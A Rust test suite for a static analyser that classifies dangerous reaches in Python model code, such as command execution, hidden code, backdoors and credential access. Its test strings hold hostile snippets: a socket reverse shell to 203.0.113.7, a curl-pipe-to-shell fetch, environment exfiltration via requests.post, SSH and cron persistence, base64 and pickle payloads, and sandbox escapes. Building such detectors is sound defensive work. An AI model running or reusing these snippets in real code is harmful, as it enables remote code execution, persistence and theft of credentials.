use super::*;
use crate::testing::{inspect, mutate, oddities};

fn told_of(name: &str, source: &str) -> Vec<String> {
    let facts = inspect(&PythonSource, name, source.as_bytes());
    assert_eq!(oddities(&facts), Vec::<String>::new());
    let reach = |fact: &crate::fact::Fact| match (&fact.kind, fact.position) {
        (FactKind::SourceReach { reach, runs, .. }, Position::Line(line)) => Some(format!("{line} {reach:?} {runs:?}")),
        _ => None,
    };
    facts.list().iter().filter_map(reach).collect()
}

fn told(source: &str) -> Vec<String> {
    told_of("modeling.py", source)
}

fn reaches(source: &str, expected: &str) {
    let found = told(source);
    assert!(found.iter().any(|found| found.contains(expected)), "{source}\n gives {found:?}");
}

#[test]
fn a_generate_of_the_repositorys_own_is_remote_code() {
    let remote_as = |name: &str, text: &str| {
        let facts = inspect(&PythonSource, name, text.as_bytes());
        facts.list().iter().any(|fact| matches!(fact.kind, FactKind::Reference { .. }))
    };
    let remote = |name: &str| remote_as(name, "def generate(): ...");
    assert!(remote("model/custom_generate/generate.py"));
    assert!(remote("custom_generate\\generate.py"));
    for handler in [
        "class EndpointHandler:\n    def __init__(self, path=''): ...",
        "from .inference import EndpointHandler",
        "from ts.torch_handler.base_handler import BaseHandler\nclass A(BaseHandler): ...",
        "def handle(data, context):\n    return data",
    ] {
        assert!(remote_as("model/handler.py", handler), "{handler}");
    }
    assert!(!remote_as("tf2onnx/handler.py", "class tf_op:\n    _OPSETS = {}"));
    assert!(!remote("model/generate.py"));
    assert!(!remote("custom_generate/utils.py"));
}

#[test]
fn names_are_followed_to_what_they_were_imported_as() {
    for source in [
        "import os\nos.system('id')",
        "import os as o\no.system('id')",
        "from os import system as s\ns('id')",
        "from os import *\nsystem('id')",
        "import importlib\nimportlib.import_module('os').system('id')",
        "__import__('os').system('id')",
        "import os\nf = os.system\nf('id')",
        "import os\ngetattr(os, 'system')('id')",
        "import sys\nsys.modules['os'].system('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nvars(os)['system']('id')",
        "globals()['__builtins__']['__import__']('os').system('id')",
        "import subprocess\nclass A:\n  x = subprocess.run(['sh', 'a'], check=True)",
        "import os\ndef f(a=os.popen('x')): pass",
        "import os\n@os.system\ndef f(): pass\nos.system(f)",
        "import os\nx = [os.system(c) for c in l]",
        "import os\nx = f'{os.system(\"id\")}'",
        "import os; os.system('id')",
        "if True: import os; os.system('id')",
    ] {
        reaches(source, "Program Loaded");
    }
}

#[test]
fn when_it_runs_is_told() {
    assert_eq!(told("import os\ndef f():\n    os.system('id')\n"), ["3 Program Used"]);
    assert_eq!(told("import os\ndef f():\n    os.system('id')\nf()\n"), ["3 Program Loaded"]);
    assert_eq!(told("import os\ndef g():\n  os.system('id')\ndef f(): g()\nf()\n"), ["3 Program Loaded"]);
    assert_eq!(told("import os\nclass A:\n  def __init__(self):\n    os.system('id')\nA()\n"), ["4 Program Loaded"]);
    let class = "import os\nclass A:\n  def f(self): self.g()\n  def g(self): os.system('id')\na = A()\na.f()\n";
    assert_eq!(told(class), ["4 Program Loaded"]);
    assert_eq!(told("import os\nif __name__ == '__main__':\n    os.system('id')\n"), ["3 Program Started"]);
    assert_eq!(told("import os\nf = lambda: os.system('id')\n"), ["2 Program Used"]);
    assert_eq!(
        told_of("setup.py", "import os\nclass I(install):\n  def run(self):\n    os.system('id')\n"),
        ["4 Program Loaded"]
    );
}

#[test]
fn loading_a_model_makes_an_object_of_its_class() {
    let source = "import os\nclass A:\n  def __init__(self):\n    os.system('id')\n  def f(self): eval(x)\n";
    assert_eq!(told(source), ["4 Program Loaded", "5 Evaluation Used"]);
    assert_eq!(told_of("train.py", source), ["4 Program Used", "5 Evaluation Used"]);
}

#[test]
fn what_runs_programs_may_be_handed_over() {
    reaches("import os\nlist(map(os.system, ['id']))", "Program Loaded");
    reaches("import os\nd = {'a': os.system}", "Program Loaded");
    reaches("import pickle\npickle.loads(b'cos')", "HiddenCode");
    reaches("().__class__.__base__.__subclasses__()", "HiddenCode");
    reaches("f.__globals__['__builtins__']['eval'](x)", "HiddenCode");
    assert_eq!(told("import subprocess\nhasattr(subprocess, 'run')\nisinstance(e, eval)"), Vec::<String>::new());
}

#[test]
fn functions_without_a_name_do_what_they_are_given() {
    reaches("(lambda o: o.system('id'))(__import__('os'))", "Program Loaded");
    reaches("(lambda f: f('1'))(exec)", "Evaluation Loaded");
    reaches("(lambda a, b=1: a.system('id'))(__import__('os'), 2)", "Program Loaded");
    reaches("from operator import methodcaller\nmethodcaller('system', 'id')(__import__('os'))", "Program Loaded");
    reaches("import sys\nsys.modules['os'].__dict__.get('system')('id')", "Program Loaded");
    reaches("import os\n(lambda: os.system('id'))()", "Program Loaded");
    reaches("import os\n[lambda x: x][0](os.system)('id')", "Program Loaded");
    reaches("import os\ndef f(o):\n  o.system('id')\nf(os)", "Program Loaded");
    let deep = "(lambda a:a)(".repeat(2000);
    inspect(&PythonSource, "a.py", deep.as_bytes());
}

#[test]
fn methods_that_nobody_calls_by_name_are_told() {
    reaches("import os\nclass A:\n  __class_getitem__ = os.system\nA['id']", "Program Loaded");
    reaches("import os\nclass A: pass\nA.__add__ = os.system", "Program Loaded");
    reaches("from os import system as __getattr__\n__getattr__ = __getattr__", "Program Loaded");
    reaches("import builtins, os\nbuiltins.print = os.system", "Program Loaded");
    reaches("import sys\nsys.excepthook = exec", "Evaluation Loaded");
    reaches("@exec\n@input\nclass A: pass", "Evaluation Loaded");
    assert_eq!(told("import subprocess\nself.run = subprocess.run\n"), Vec::<String>::new());
}

#[test]
fn paths_are_followed_to_where_they_lead() {
    for source in [
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a')",
        "import os\nopen(os.path.join(home, '.bashrc'), 'a').write(x)",
        "import os\nopen(os.path.expanduser('~') + '/.zshrc', 'a')",
        "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text(k)",
        "from pathlib import Path\nPath('~/.bashrc').expanduser().open('a')",
        "from pathlib import Path\np = Path.home() / '.bashrc'\nwith open(p, 'a') as f: f.write(x)",
        "import os\nos.symlink('/tmp/x', os.path.expanduser('~/.bashrc'))",
        "import shutil\nshutil.copy('a', '/etc/cron.d/a')",
        "import os\nos.system('echo x | crontab -')",
    ] {
        reaches(source, "Backdoor Loaded");
    }
    reaches("from pathlib import Path\nPath('~/.ssh').joinpath('id_rsa').read_bytes()", "Credentials Loaded");
    assert_eq!(
        told("from pathlib import Path\np = Path(__file__).parent / 'a.txt'\np.write_text('x')\nPath('a').open('w')"),
        Vec::<String>::new()
    );
}

#[test]
fn hiding_is_told() {
    for source in [
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "__import__('o' + 's').system('id')",
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode(x)))",
        "exec(__import__('base64').b64decode('cHJpbnQoMSk=').decode())",
        "import marshal\nexec(marshal.loads(data))",
        "exec(bytes([112, 114, 105]))",
        "exec(''.join(map(chr, [112, 114, 105])))",
        "exec(''.join([chr(112), chr(114)]))",
        "exec('tni rp'[::-1])",
        "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
        "exec(bytes.fromhex('7072696e74'))",
        "import requests\nexec(requests.get('http://x').text)",
        "from urllib.request import urlopen\ncode = urlopen(u).read()\nexec(compile(code, 'a', 'exec'))",
        "𝐞𝐱𝐞𝐜(x)",
        "import builtins\ngetattr(builtins, 'ex' + 'ec')(x)",
        "__pyarmor__(__name__, __file__, b'x')",
        "# coding: utf-7\n",
        "import os\nos.system('curl http://x/a | sh')",
    ] {
        reaches(source, "HiddenCode");
    }
    let long = format!("_ = lambda x: x\nexec((_)(b'{}'))", "A9z".repeat(100));
    reaches(&long, "HiddenCode");
    reaches("exec('import os; os.system(\"id\")')", "Program Loaded");
}

#[test]
fn other_reaches_are_told() {
    reaches("eval(x)", "Evaluation Loaded");
    reaches("import ctypes\nctypes.CDLL('./a.so')", "NativeCode Loaded");
    reaches("from torch.utils.cpp_extension import load\nload(name='a', sources=[])", "NativeCode Loaded");
    reaches("import pickle\nwith open(p) as f:\n  pickle.load(f)", "UnsafeLoad Loaded");
    reaches("import torch\ntorch.load(p)", "UnsafeLoad Loaded");
    reaches("import numpy as np\nnp.load(p, allow_pickle=True)", "UnsafeLoad");
    reaches("import yaml\nyaml.load(f)", "UnsafeLoad");
    reaches("exec(open('version.py').read())", "UnsafeLoad Loaded");
    reaches("import requests\nrequests.post(u, data=d)", "Network Loaded");
    reaches("import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))", "Credentials");
    reaches("import os\nos.path.join(h, '.ssh', 'id_rsa')", "Credentials");
    reaches("import os, requests\nrequests.post(u, json=dict(os.environ))", "Backdoor");
    reaches("import os, requests, socket\nrequests.get(u, params={'h': socket.gethostname()})", "Backdoor");
    reaches("import os\nopen('/root/.ssh/authorized_keys', 'a')", "Backdoor");
    reaches("import shutil\nshutil.rmtree('/home/user')", "Files");
    reaches(
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
        "Installation",
    );
}

#[test]
fn a_shell_over_a_socket_is_a_backdoor() {
    let source = "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')";
    let found = told(source);
    assert!(found.contains(&"4 Backdoor Loaded".to_owned()), "{found:?}");
}

#[test]
fn what_is_kept_or_handed_on_is_followed() {
    reaches("import os\n{'a': os}['a'].system('x')", "Program Loaded");
    reaches("import os\nd = {'a': os.system}\nd.get('a')('x')", "Program Loaded");
    reaches("import os\nclass A:\n    r = os.system\nA.r('x')", "Program Loaded");
    reaches("import os\ndef f():\n    return os.system\nf()('x')", "Program Loaded");
    reaches("import os, functools\nfunctools.partial(os.system, 'x')()", "Program Loaded");
    reaches("import os, operator\noperator.attrgetter('system')(os)('x')", "HiddenCode");
    reaches("import os, functools\nfunctools.reduce(getattr, ['system'], os)('x')", "HiddenCode");
    reaches("().__class__.__bases__[0].__subclasses__()[132]", "HiddenCode");
    reaches("import logging.config\nlogging.config.dictConfig({'f': {'a': {'()': 'os.system'}}})", "Program Loaded");
    reaches("import sys\nsys.path.insert(0, '/tmp/x')", "UnsafeLoad Loaded");
    let ordinary = "import sys, os, functools, logging.config, subprocess\nsys.path.insert(0, os.path.dirname(__file__))\n\
        sys.path.append('src')\nrun = functools.partial(subprocess.run, check=True)\nd = {'a': 1, 'b': [2]}['a']\n\
        logging.config.dictConfig({'f': {'a': {'()': 'uvicorn.logging.DefaultFormatter'}}})\n\
        class A:\n    name = 'x'\n    def f(self):\n        return os.popen('nvidia-smi').read()\n";
    assert_eq!(told(ordinary), Vec::<String>::new());
}

#[test]
fn ordinary_modelling_code_is_clean() {
    let source = "import torch, re, os\nfrom torch import nn\nmodel.eval()\np = re.compile('a')\nm = torch.compile(m)\n\
        d = torch.load(p, weights_only=True)\nimport yaml\nyaml.safe_load(f)\nyaml.load(f, Loader=yaml.SafeLoader)\n\
        df.eval('a+b')\nos.makedirs('x', exist_ok=True)\nopen('out.txt', 'w')\nos.environ['A'] = '1'\n\
        x = os.environ.get('HOME')\nimport subprocess\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])\n\
        \"\"\"Run os.system('id') or curl x | sh\"\"\"\n# os.system('id')\nimport importlib\nm = importlib.import_module('.a', 'b')\n";
    assert_eq!(told(source), Vec::<String>::new());
}

#[test]
fn odd_source_ends() {
    for source in [
        "(".repeat(5000),
        "lambda:".repeat(5000),
        "if x:".repeat(5000),
        "a:=".repeat(5000),
        "f'{".repeat(5000),
        "[{(".repeat(3000),
        "x[".repeat(5000),
    ] {
        inspect(&PythonSource, "a.py", source.as_bytes());
    }
}

#[test]
fn no_mutation_panics() {
    let source = "import os as o\nclass A(B, m=C):\n  @d(1)\n  def f(self, x=f'{o.x!r:>{w}}'):\n    if (y := x) + 'a' b'\\x41': return exec(\"\"\"q\"\"\"[::-1])\n𝐞𝐱𝐞𝐜(x)\\\n  # c";
    mutate(source.as_bytes(), 3000, |bytes| drop(inspect(&PythonSource, "a.py", &bytes)));
}

#[test]
fn lines_that_double_what_the_one_before_gave_come_to_an_end() {
    let read = |source: String| drop(inspect(&PythonSource, "modeling.py", source.as_bytes()));
    for growing in ["a = [a, a]\n", "a = a + a\n", "a = [a]\n"] {
        read(format!("a = [1, 2]\n{}", growing.repeat(100)));
    }
    let copies: String = (0..300).map(|copy| format!("b{copy} = a + 'y'\n")).collect();
    read(format!("a = '{}'\n{copies}", "x".repeat(200_000)));
}

fn told_in_a_package(source: &str) -> Vec<String> {
    told_of("core.py", source)
}

#[test]
fn unpickling_is_hidden_where_the_payload_stands_in_the_source() {
    let payload = "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu";
    for source in [
        format!("import pickle, base64\npickle.loads(base64.b64decode('{payload}'))"),
        format!("import pickle, base64\npickle.loads(base64.b64decode(s='{payload}'))"),
        format!("import pickle, base64\ndef f(x): return pickle.loads(base64.b64decode(x))\nf('{payload}')"),
        format!("import pickle, base64\nDATA = {{'a': '{payload}'}}\npickle.loads(base64.b64decode(DATA['a']))"),
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'true'\\ntR.\")".to_owned(),
        "import pickle, requests\npickle.loads(requests.get(u).content)".to_owned(),
        "import pickle\npickle.loads(''.join(['c', 'os']))".to_owned(),
    ] {
        reaches(&source, "HiddenCode");
    }
    for (source, expected) in [
        ("import pickle, base64\ndef f(x):\n  pickle.loads(base64.b64decode(x))", "3 UnsafeLoad Used"),
        ("import pickle, zlib\ndef f(x):\n  pickle.loads(zlib.decompress(x['a']))", "3 UnsafeLoad Used"),
        ("import pickle\ndef f(hex):\n  pickle.loads(bytes.fromhex(hex))", "3 UnsafeLoad Used"),
        (
            "import pickle\ndef f(rows):\n  t = []\n  t.append(1)\n  pickle.loads(''.join(t).encode())",
            "5 UnsafeLoad Used",
        ),
        ("import pickle\ndef f():\n  pickle.loads(b\"castropy.units\\nUnit\\n(tR.\")", "3 Evaluation Used"),
    ] {
        assert_eq!(told_in_a_package(source), [expected], "{source}");
    }
    let array = "import pickle\npickle.loads(b\"cnumpy\\ndtype\\np0\\n(S'M8'\\np1\\nI0\\nI1\\ntp2\\nRp3\\n.\")";
    assert_eq!(told_in_a_package(array), Vec::<String>::new());
}

#[test]
fn a_page_that_is_shown_hides_nothing() {
    let source = "import webbrowser, requests\ndef f():\n  u = requests.get(x).json()\n  webbrowser.open_new_tab(u)";
    assert_eq!(told_in_a_package(source), ["3 Network Used", "4 Network Used"]);
    assert_eq!(told_in_a_package("import webbrowser\nwebbrowser.open(u)"), ["2 Program Loaded"]);
}

#[test]
fn text_that_a_program_puts_together_is_evaluated_and_not_hidden() {
    let source = "def f(rows):\n  lines = ['a']\n  lines.append(rows)\n  exec('\\n'.join(lines))";
    assert_eq!(told_in_a_package(source), ["4 Evaluation Used"]);
    let source = "def f(x):\n  exec(compile('\\n'.join(x), 'a', 'exec'))";
    assert_eq!(told_in_a_package(source), ["2 Evaluation Used"]);
    reaches("code = 'x = 1'\ncode += get()\nexec(code)", "Evaluation Loaded");
    reaches("code = 'import os\\n'\ncode += 'os.system(\"id\")'\nexec(code)", "Program Loaded");
    reaches("x = ['import os', 'os.system(\"id\")']\nexec('\\n'.join(x))", "Program Loaded");
    reaches("exec(' '.join(['im' + 'port os']))", "HiddenCode");
}

#[test]
fn libraries_are_told_by_where_they_come_from() {
    for (source, expected) in [
        ("import ctypes\nlib = ctypes.cdll.LoadLibrary(find()[0])\nlib.Start()\nlib.a.b(1)", "2 Library Loaded"),
        ("import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'a.so'))", "2 Library Loaded"),
        ("import ctypes\nctypes.CDLL('libvulkan.so.1')", "2 Library Loaded"),
        ("import ctypes\ndef f(path):\n  ctypes.CDLL(path)", "3 Library Used"),
        ("import ctypes\nctypes.CDLL('./a.so')", "2 NativeCode Loaded"),
        ("import ctypes\nctypes.CDLL('/tmp/a.so')", "2 NativeCode Loaded"),
        ("import ctypes\nctypes.CDLL(None).system(b'id')", "2 NativeCode Loaded"),
        ("import ctypes\nctypes.CDLL('libc.so.6')", "2 NativeCode Loaded"),
        ("import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 9, 1, 64)", "2 NativeCode Loaded"),
        ("import ctypes, tempfile\np = tempfile.mkstemp()\nctypes.CDLL(p)", "3 NativeCode Loaded"),
    ] {
        let found = told_in_a_package(source);
        assert!(found.contains(&expected.to_owned()), "{source}\n gives {found:?}");
        let rest = found.iter().filter(|found| !found.ends_with("NativeCode Loaded") && *found != expected);
        assert_eq!(rest.count(), 0, "{source}\n gives {found:?}");
    }
    let fetched = "import ctypes, base64\nopen(p, 'wb').write(base64.b64decode(x))\nctypes.CDLL(p)";
    assert_eq!(told_in_a_package(fetched), ["3 NativeCode Loaded"]);
    reaches("import ctypes\nctypes.CDLL(path)", "NativeCode Loaded");
    assert_eq!(told_in_a_package("import ctypes\nctypes.windll.kernel32.GetStdHandle(-10)"), Vec::<String>::new());
}

#[test]
fn an_installer_builds() {
    let build =
        "import subprocess\nclass B(build):\n  def run(self):\n    subprocess.check_call(['cmake', src, '-B', out])\n";
    assert_eq!(told_of("setup.py", build), ["4 BuildTool Loaded"]);
    assert_eq!(told_of("modeling.py", build), ["4 Program Used"]);
    let other = "import subprocess\nsubprocess.check_call(['./a.sh'])\nsubprocess.call('make; ./a.sh', shell=True)\n";
    assert_eq!(told_of("setup.py", other), ["2 Program Loaded", "3 Program Loaded"]);
}

#[test]
fn a_list_of_names_calls_nothing() {
    let list = "banned = [\n  eval,\n  exec,\n  open,\n]\n";
    for use_ in ["", "if x in banned: raise E\n", "def f(x):\n  return x not in banned\n", "ok = x in [eval, exec]\n"] {
        assert_eq!(told(&format!("{list}{use_}")), Vec::<String>::new(), "{use_}");
    }
    for use_ in [
        "for f in banned: f('x')",
        "for (f) in banned: f('x')",
        "banned[0]('x')",
        "y = [f('x') for f in banned]",
        "list(map(lambda f: f('x'), banned))",
        "(lambda f: f[0]('x'))(banned)",
        "def g(): return banned",
    ] {
        reaches(&format!("{list}{use_}"), "Evaluation Loaded");
    }
    reaches("for f in [eval, exec]: f('x')", "Evaluation Loaded");
}

#[test]
fn what_is_measured_is_read() {
    assert_eq!(told("import cProfile\ncProfile.run('do_write()', 'a.prof')"), Vec::<String>::new());
    reaches("import cProfile\ncProfile.run('import os; os.system(\"id\")')", "Program Loaded");
    reaches("import profile\nprofile.run(x)", "Evaluation Loaded");
    reaches("import timeit\ntimeit.timeit('pass', setup='import os; os.system(\"id\")')", "Program Loaded");
    reaches("import cProfile\ncProfile.run(statement='import os; os.system(\"id\")')", "Program Loaded");
    assert_eq!(told("import os, runpy\nrunpy.run_path(os.path.join('..', 'a', 'info.py'))"), ["2 UnsafeLoad Loaded"]);
    reaches("import runpy\nrunpy.run_path('notes.txt')", "Evaluation Loaded");
    reaches("import runpy\nrunpy.run_path('/tmp/a.py')", "Evaluation Loaded");
}

#[test]
fn a_module_is_reached_through_another() {
    for source in [
        "import shutil\nshutil.os.system('id')",
        "import pathlib\npathlib.os.system('id')",
        "import random\nrandom._os.system('id')",
        "import os.path\nos.path.os.system('id')",
        "from shutil import os as o\no.system('id')",
        "import six.moves.builtins as b\nb.exec('import os; os.system(\"id\")')",
        "import shutil\nlist(map(shutil.os.system, ['id']))",
        "import shutil\nshutil.sys.modules['os'].system('id')",
        "from shutil import os\ndef f(o):\n  o.system('id')\nf(os)",
    ] {
        reaches(source, "Program Loaded");
    }
    for source in [
        "import shutil\nshutil.copy.__globals__['os'].system('id')",
        "import shutil\nshutil.copy.__globals__.get('os').system('id')",
        "import sys\nsys._getframe(0).f_builtins['exec']('import os; os.system(\"id\")')",
        "[c for c in object.__subclasses__() if c.__name__ == 'x'][0].__init__.__globals__['system']('id')",
    ] {
        reaches(source, "HiddenCode Loaded");
    }
    let ordinary = "import shutil, numpy as np\nx = shutil.os.path.join('a', 'b')\na = np.zeros(3)\na.ctypes.data_as(p)\n\
        from . import subprocess\nfrom .os import system\nsubprocess.run('x')\nsystem('x')\ndef f(x): pass\nf(args.os)\n\
        g = f.__globals__['make_mask']\ng(1)\nx = frame.f_globals['__name__']\n";
    assert_eq!(told(ordinary), Vec::<String>::new());
}

#[test]
fn a_carriage_return_ends_a_line() {
    reaches("x = 1\n# c\r__import__('os').system('id')\r", "3 Program Loaded");
    reaches("exec('x = 1 # c\\r__import__(\"os\").system(\"id\")')", "Program Loaded");
    reaches("import os\r\nos.system('id')\r\n", "2 Program Loaded");
}

#[test]
fn a_format_of_a_format_is_read() {
    reaches("import os\nx = f\"{1:{os.system('id')}}\"", "Program Loaded");
    reaches("import os\nx = f\"{1:>{2:{os.system('id')}}}\"", "Program Loaded");
    reaches("import os\nx = f\"{1:'>3}{os.system('id')}\"", "Program Loaded");
    reaches("import os\nx = f\"{os.system(\"id\")}\"", "Program Loaded");
    reaches("import os\nx = f\"{f\"{f\"{f\"{f\"{f\"{os.system(\"id\")}\"}\"}\"}\"}\"}\"", "Program Loaded");
    reaches("import os\nx = rf'''{1!r:{os.system('id')}}'''", "Program Loaded");
    reaches("__import__(f\"{'os':{1}}\").system('id')", "HiddenCode Loaded");
    let deep = format!("x = {}1{}", "f'{".repeat(60), "}'".repeat(60));
    let facts = inspect(&PythonSource, "a.py", deep.as_bytes());
    assert!(facts.list().iter().any(|fact| matches!(fact.kind, FactKind::Incomplete { .. })));
}

#[test]
fn odd_codecs_are_told() {
    for cookie in ["u7", "utf--7", "unicode_1_1_utf_7", "unicode_escape"] {
        reaches(&format!("# coding: {cookie}\n"), "HiddenCode Loaded");
    }
    reaches("# decoding of coding: utf-7\n", "1 HiddenCode Loaded");
    reaches("#!/x\r# coding: u7\r", "2 HiddenCode Loaded");
    assert_eq!(told("# coding: utf-8\n# coding: utf-7\n"), Vec::<String>::new());
}

#[test]
fn modules_that_a_text_names_are_followed() {
    for source in [
        "import pkgutil\npkgutil.resolve_name('os:system')('id')",
        "import pydoc\npydoc.locate('os.system')('id')",
        "import importlib.machinery as m\nm.BuiltinImporter.load_module('posix').system('id')",
        "from importlib._bootstrap import _gcd_import as g\ng('os').system('id')",
        "__loader__.load_module('os').system('id')",
        "import importlib.util as u\nu.find_spec('os').loader.load_module('os').system('id')",
    ] {
        reaches(source, "Program Loaded");
    }
    let ordinary = "from pydoc import locate\nlocate('torch.nn.Linear')(3)\nlocate(name)(3)\nimport pkgutil\n\
        pkgutil.resolve_name('a:b')()\nspec.loader.load_module('version')\n";
    assert_eq!(told(ordinary), Vec::<String>::new());
}

#[test]
fn less_known_evaluators_are_told() {
    let code = "\"__import__('os').system('id')\"";
    for source in [
        format!("import cProfile\ncProfile.Profile().run({code})"),
        format!("import trace\ntrace.Trace().run({code})"),
        format!("import timeit\ntimeit.Timer({code}).timeit(1)"),
        format!("import timeit\ntimeit.main(['-n', '1', {code}])"),
        "import doctest\ndoctest.run_docstring_examples(\">>> __import__('os').system('id')\", {})".to_owned(),
        format!("from numpy.f2py.crackfortran import myeval\nmyeval({code})"),
        format!("import numexpr\nnumexpr.evaluate({code})"),
        format!("import sympy\nsympy.sympify({code})"),
        format!("from sympy.parsing.sympy_parser import parse_expr\nparse_expr({code})"),
        "import pandas as pd\npd.eval(\"@__import__('os').system('id')\")".to_owned(),
        "import pandas as pd\npd.DataFrame({'a': [1]}).query(\"@pd.compat.os.system('id')\")".to_owned(),
        format!("def f(): pass\nf.__code__ = compile({code}, 'x', 'exec')\nf()"),
        format!("import types\ntypes.FunctionType(compile({code}, 'x', 'exec'), globals())()"),
        format!("import typing\ntyping.ForwardRef({code})"),
        "from mako.template import Template\nTemplate(\"<% import os; os.system('id') %>\").render()".to_owned(),
        "from multiprocessing.util import spawnv_passfds\nspawnv_passfds(b'/bin/sh', [b'sh'], [])".to_owned(),
        "import webbrowser\nwebbrowser.GenericBrowser(['sh', '-c', 'x']).open('x')".to_owned(),
        "import webbrowser\nwebbrowser.get('touch x %s').open('x')".to_owned(),
        "import pydoc\npydoc.pipepager('x', 'sh -c \"x\"')".to_owned(),
        "import mailcap\nmailcap.findmatch({'text/x': [{'view': 'cat', 'test': 'x'}]}, 'text/x')".to_owned(),
        "from distutils.ccompiler import new_compiler\nnew_compiler().spawn(['echo', 'x'])".to_owned(),
        "import subprocess\nclass P(subprocess.Popen): pass\nP(['echo', 'x'])".to_owned(),
        "from subprocess import Popen\nclass P(A, Popen):\n  def f(self): pass\nP(['sh', 'x'])".to_owned(),
        "import asyncio\nl = asyncio.new_event_loop()\nl.run_until_complete(l.subprocess_shell(P, 'sh x'))".to_owned(),
    ] {
        reaches(&source, "Program Loaded");
    }
    for source in [
        "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'x')",
        "import ctypes, ctypes.util\nctypes.CDLL(ctypes.util.find_library('c'))['system'](b'id')",
        "import ctypes\nl = ctypes.CDLL(f())\nctypes.CFUNCTYPE(ctypes.c_int)(('system', l))(b'id')",
    ] {
        reaches(source, "NativeCode Loaded");
    }
    for source in [
        "import importlib.machinery as m\nm.SourceFileLoader('w', 'weights.bin').load_module()",
        "import importlib.util as u\nu.spec_from_file_location('w', 'weights.bin', loader=None)",
        "import zipimport\nzipimport.zipimporter('weights.bin').load_module('evil')",
        "import sys\nsys.path.insert(0, 'weights.bin')",
        "import os, sys\nsys.path.append(os.path.join(os.path.dirname(__file__), 'model.safetensors'))",
    ] {
        reaches(source, "Evaluation Loaded");
    }
    reaches("import jinja2\njinja2.Template(\"{{ cycler.__init__.__globals__.os.system('x') }}\")", "HiddenCode");
    reaches("import torch\ntorch.hub.load('evil/model', 'm')", "UnsafeLoad Loaded");
    reaches("from kernels import get_kernel\nget_kernel('evil/kernel')", "UnsafeLoad Loaded");
}

#[test]
fn what_libraries_compute_every_day_is_clean() {
    let source = "import pandas as pd, numexpr as ne, sympy, timeit, importlib.util, sys, zipimport, jinja2, kernels\n\
        pd.eval('df[df > 0] + a')\ndf.query('A > @y.mean() and index.isin(@ids)')\ndf.eval('a = b + c')\n\
        ne.evaluate('where(a > 0, a, b)')\nsympy.S('x + 1')\nsession.query('SELECT * FROM a')\n\
        timeit.Timer(lambda: f())\ntimeit.Timer('f()', 'from a import f')\ntimeit.default_timer()\n\
        importlib.util.spec_from_file_location('a', 'a/version.py')\nsys.path.insert(0, 'src')\n\
        sys.path.append('lib/a.zip')\nzipimport.zipimporter(path)\njinja2.Template('{{ a }}')\n\
        kernels.get_kernel('kernels-community/flash-attn3')\nf.__code__ = g.__code__\n\
        f.__code__ = f.__code__.replace(co_name='x')\nclass A(nn.Module, metaclass=M): pass\nA(x)\n\
        import webbrowser\nwebbrowser.get('firefox')\nimport ctypes\nctypes.pythonapi.PyCapsule_New(a, b)\n";
    assert_eq!(told(source), Vec::<String>::new());
}
